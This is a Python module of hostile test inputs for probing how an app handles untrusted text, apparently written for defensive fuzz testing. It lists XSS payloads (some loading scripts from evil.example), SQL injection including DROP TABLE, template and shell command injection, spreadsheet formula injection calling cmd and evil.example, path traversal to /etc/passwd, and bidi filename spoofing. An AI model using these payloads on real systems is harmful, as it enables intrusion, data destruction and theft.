"""Texts made to be taken for something else than texts, of twelve families, more than 515 in all.

Every one that would run as a script says `hurt()` or `alert(1)`; every one that would be fetched is of `evil.example`.
"""

import unicodedata
from itertools import product

_TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe", "marquee",
         "object data=x", "math", "style", "form", "a href=#", "p")  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart")
_CODE = ("alert(1)", "window.hurt()")
_BREAKS = ("", '">', "'>", "-->", "</script>", "</style>", "</textarea>", "]]>", "</title>", "`")

SCRIPTS = [
    f"{before}<script>{code}</script>" for before, code in product(_BREAKS, _CODE)
] + [
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>parent.hurt()</script>'></iframe>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "';alert(1);//",
    '";alert(1);//',
    "`;alert(1);//",
    "${alert(1)}",
    "</script><svg onload=hurt()>",
]  # fmt: skip
HANDLERS = [f"<{tag} {event}={_CODE[n % 2]}>" for n, (tag, event) in enumerate(product(_TAGS, _EVENTS))]

_SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:window.hurt()", "java\tscript:alert(1)", "javascript&colon;alert(1)",
            " javascript:alert(1)", "data:text/html,<script>parent.hurt()</script>", "vbscript:alert(1)",
            "//evil.example/x.png", "https://evil.example/x.png", "\\\\evil.example\\share\\x", "file:///etc/passwd",
            "blob:https://evil.example/1")  # fmt: skip
LINKS = [
    form.format(scheme)
    for scheme, form in product(
        _SCHEMES,
        ("{}", "[click]({})", "![picture]({})", "<a href='{}'>x</a>", "<img src='{}'>", "[r]: {}\n\n![r] [r]", "<{}>"),
    )
]

MARKDOWN = [
    "**bold** _soft_ ~~gone~~", "# title", "- item", "1. item", "> said", "---", "| a | b |\n|---|---|\n| c | d |",
    "```\ncode\n```", "`code`", ":red[x] :material/home: :smile:", ":material/", ":streamlit:", "[[x]]",
    "[^1]\n\n[^1]: note", "\\*", "a\\", "[x]()", "[](x)", "![]", "***", "~~~", "<!-- comment", "<![CDATA[x]]>",
    "<?php echo 1 ?>", "<% 1 %>", "<b>bold</b>", "<h1>title</h1>", "<style>*{display:none}</style>", "<plaintext>",
    "<textarea>", "<title>x</title>", "</div></div></div>", ":small[x", ":blue-background[x]", "[x][y]", "  \n  ",
    "a  \nb", "\tindented", "    indented", "==x==", "H~2~O", "x^2^",
]  # fmt: skip
LATEX = [
    "$x^2$", "$$y$$", "\\(x\\)", "\\[x\\]", "$\\href{javascript:alert(1)}{x}$", "$\\url{javascript:hurt()}$",
    "$\\includegraphics{https://evil.example/x.png}$", "$\\def\\a{\\a\\a}\\a$", "$\\rule{9999em}{9999em}$",
    "$\\input{/etc/passwd}$", "$\\htmlClass{x}{y}$", "$\\htmlData{onload=alert(1)}{x}$", "$" * 50, "$\\frac{1}{",
    "\\begin{x}", "\\write18{id}",
]  # fmt: skip
SQL = [
    "'; DROP TABLE figure; --", "' OR '1'='1", '" OR ""="', "1; DELETE FROM saved_view", "') OR 1=1 --",
    "' UNION SELECT sql FROM sqlite_master --", "'||(SELECT version())||'", "1 AND SLEEP(5)",
    "'; SELECT pg_sleep(9); --", "admin'--", "' AND 1=CAST((SELECT 1) AS int) --", "%", "_", "%%%",
    "\\'; DROP TABLE import; --", "';COPY figure TO '/tmp/x';--", "'; ATTACH 'x' AS y; --", "x' AND 'x'='y",
    "/**/OR/**/1=1", "NULL", "null", "' OR ''='", "0x27", "CHAR(39)", ":name", "%(name)s", "?", "$1",
    "$$; DROP TABLE figure; $$", "E'\\''", "'; PRAGMA writable_schema=1; --",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "{name}", "{0.__class__}", "{{config}}", "{%raw%}", "%s",
    "%d", "%n%n%n", "%(x)s", "{", "}", "{}", "{!r}", "{:>999999999}", "{{''.__class__.__mro__}}",
    "__import__('os').system('id')", "$(id)", "`id`", ";id", "|id", "&& id", "datum.x", "datum['x']",
    "{{constructor.constructor('alert(1)')()}}", "$ref", "__proto__", "constructor", "toString", "hasOwnProperty",
    "datum.constructor.constructor('window.hurt()')()", "event.view.alert(1)", "{\"$schema\":\"x\"}",
    "[object Object]", "undefined", "NaN", "Infinity",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1-1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")",
    "=IMPORTXML(\"https://evil.example\",\"//a\")", "\t=1", "\r=1", "\uff1d1", "\uff0b1", "|calc", "%0A=1", " =1",
    "\u00a0=1", "\ufeff=1", "'=1", "''", ";=1", ",=1", "=WEBSERVICE(\"//evil.example\")",
    "=DDE(\"cmd\",\"/C calc\",\"x\")", "-2+3+cmd|' /C calc'!D2", "#REF!", "#NAME?", "1e999", "-0", "0x10", "1_000",
    "١٢٣", "½", "①",
]  # fmt: skip
_INVISIBLE = (
    "\u00ad\u061c\u115f\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067"
    "\u2068\u2069\u206a\u3164\ufe0f\ufeff\uffa0\ufffc\ufffd\uffff\U000e0001\U000e0041\U000f0000"
)
SIGNS = [
    *(f"a{chr(code)}b" for code in (*range(1, 32), *range(0x7F, 0xA1))),
    *(f"a{sign}b" for sign in _INVISIBLE),
    "\u202egnp.exe", "\u2067\u202etxt", "a\u0300\u0301" * 40, "\u0e47" * 200,
]  # fmt: skip
EMOJI = [
    "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1ee\U0001f1f9",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\u2764\ufe0f", "1\ufe0f\u20e3", "\U0001f44d\U0001f3fd",
    "\U0001f600" * 60, "\u1f600", "\U00020000\U0002f800",
]  # fmt: skip
_ACCENTS = ("perché l'università è città", "Ǆ ﬃ Å Ω K ½ ﷺ", "İstanbul ı ß ẞ", "가각", "が", "ﬁne ² ㎏ Ⅳ")
NORMAL_FORMS = [
    *(unicodedata.normalize("NFC", text) for text in _ACCENTS),
    *(unicodedata.normalize("NFD", text) for text in _ACCENTS),
    *(unicodedata.normalize("NFKD", text) for text in _ACCENTS),
]
PATHS = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x", "....//....//x", "%2e%2e%2fx", "..%252fx",
    ".", "..", "~", "~root", "CON", "NUL.csv", "a/b", "a:b", "x\x01.csv", "-rf", "--help", "file.csv;.exe", "//",
    "\\\\?\\C:\\", "/proc/self/environ", "x" * 200 + ".csv",
]  # fmt: skip
LONG = [
    "x" * 190, "word " * 38, "<" * 190, "[" * 150, "(" * 150, "*" * 150, "\\" * 150, "W" * 120, "\u202e" * 60,
    "é" * 150,
]  # fmt: skip

FAMILIES = {
    "scripts": SCRIPTS, "handlers": HANDLERS, "links": LINKS, "markdown": MARKDOWN, "latex": LATEX, "sql": SQL,
    "templates": TEMPLATES, "formulas": FORMULAS, "signs": SIGNS, "emoji": EMOJI, "normal forms": NORMAL_FORMS,
    "paths": PATHS, "long": LONG,
}  # fmt: skip
HOSTILE = list(dict.fromkeys(text for family in FAMILIES.values() for text in family))
"""Each once."""

LENGTHS = (10_000, 1_000_000)
"""Of the texts that are longer than any cell, name or address takes: refused, or cut by who sends them."""


def some(count: int) -> list[str]:
    """So many of them, of every family alike, always the same."""
    step = len(HOSTILE) / count
    return [HOSTILE[int(n * step)] for n in range(count)]
